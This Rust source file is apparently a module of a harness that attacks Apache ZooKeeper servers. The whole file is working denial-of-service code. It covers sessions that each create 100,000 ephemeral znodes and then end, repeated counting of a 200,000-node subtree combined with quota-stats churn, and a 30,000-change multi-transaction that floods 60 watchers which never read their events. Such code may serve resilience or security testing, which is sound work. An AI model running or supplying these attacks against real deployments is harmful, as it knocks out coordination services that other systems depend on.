//! Attacks with few requests, each of which concerns very many znodes.

use std::time::Duration;

use anyhow::{Context, Result};

use super::attack::AttackState;
use super::site::{Site, Target};
use crate::wire::{Kind, Op, Session, Ticket};

const THREADS: usize = 2;
/// More than it takes to create the ephemerals, and to delete them.
const TIMEOUT: Duration = Duration::from_secs(30);
const SESSION_TIMEOUT_MS: i32 = 20_000;
const EPHEMERAL: i32 = 1;
/// Ephemerals of a session.
const EPHEMERALS: usize = 100_000;
const CREATES_OF_MULTI: usize = 1_000;
/// Znodes of the subtree that is counted.
const SUBTREE: usize = 200_000;
const TOP: &str = "/subtree";
const QUOTA: &str = "/zookeeper/quota/subtree";
/// The znode that is watched.
const WATCHED: &str = "/watched";
/// Sessions that watch it.
const WATCHERS: usize = 60;
/// Changes of it in one multi: as many as fit into a request.
const CHANGES_OF_MULTI: usize = 30_000;
/// Requests that are sent before the first reply is read.
const IN_FLIGHT: usize = 100;

fn open(address: &str) -> Result<Session> {
    Session::open(address, &Ticket::new(SESSION_TIMEOUT_MS), TIMEOUT)?.context("no session")
}

fn create_all(session: &mut Session, paths: &[String], flags: i32) -> Result<()> {
    for paths in paths.chunks(CREATES_OF_MULTI) {
        let creates = paths.iter().map(|path| Op::create(path, None, flags));
        session.ok(&Op::Multi(creates.collect()))?;
    }
    Ok(())
}

/// Ends sessions that own very many ephemerals. The first are created before the attack begins.
pub fn end_sessions(target: &Target, attack_state: &AttackState) {
    attack_state.repeat(THREADS, |thread| {
        let mut session = open(&target.address)?;
        let path = |number| format!("/ephemeral-{thread}-{number}");
        create_all(&mut session, &(0..EPHEMERALS).map(path).collect::<Vec<_>>(), EPHEMERAL)?;
        attack_state.note(EPHEMERALS as u64);
        session.close()
    });
}

/// Creates the subtree that is counted.
pub fn make_subtree(site: &Site) -> Result<()> {
    let mut session = open(site.address())?;
    session.ok(&Op::create(TOP, None, 0))?;
    let paths: Vec<_> = (0..SUBTREE).map(|number| format!("{TOP}/{number}")).collect();
    create_all(&mut session, &paths, 0)?;
    session.ok(&Op::create(QUOTA, None, 0))?;
    session.ok(&Op::create(&format!("{QUOTA}/zookeeper_limits"), Some(b"count=-1,bytes=-1"), 0))?;
    session.close()
}

/// Counts a large subtree, and creates its quota's totals, which are counts of it, too.
pub fn count_subtree(target: &Target, attack_state: &AttackState) {
    let count = Op::Plain { kind: Kind::GetAllChildrenNumber, path: TOP.to_owned() };
    let totals = format!("{QUOTA}/zookeeper_stats");
    let create = Op::create(&totals, Some(b"count=0,bytes=0"), 0);
    let delete = Op::delete(&totals, -1);
    attack_state.repeat(THREADS, |thread| {
        let mut session = open(&target.address)?;
        while !attack_state.is_over() {
            for number in 0..IN_FLIGHT {
                session.send(match (thread, number % 2) {
                    (0, _) => &count,
                    (_, 0) => &create,
                    _ => &delete,
                })?;
            }
            for _ in 0..IN_FLIGHT {
                session.receive()?;
                attack_state.note(1);
            }
        }
        session.close()
    });
}

/// Creates the znode that is watched.
pub fn make_watched_znode(site: &Site) -> Result<()> {
    let mut session = open(site.address())?;
    session.ok(&Op::create(WATCHED, None, 0))?;
    session.close()
}

/// Changes a znode very often in one txn, while many sessions watch it that do not read their events.
pub fn cause_events(target: &Target, attack_state: &AttackState) {
    let change = Op::SetData { path: WATCHED.to_owned(), data: None, version: -1 };
    let multi = Op::Multi(vec![change; CHANGES_OF_MULTI]);
    attack_state.repeat(1, |_| {
        let watch = Op::AddWatch { path: WATCHED.to_owned() };
        let mut watchers = Vec::new();
        for _ in 0..WATCHERS {
            let mut watcher = open(&target.address)?;
            watcher.ok(&watch)?;
            watchers.push(watcher);
        }
        let mut writer = open(&target.address)?;
        writer.ok(&multi)?;
        attack_state.note(CHANGES_OF_MULTI as u64);
        writer.close()
    });
}
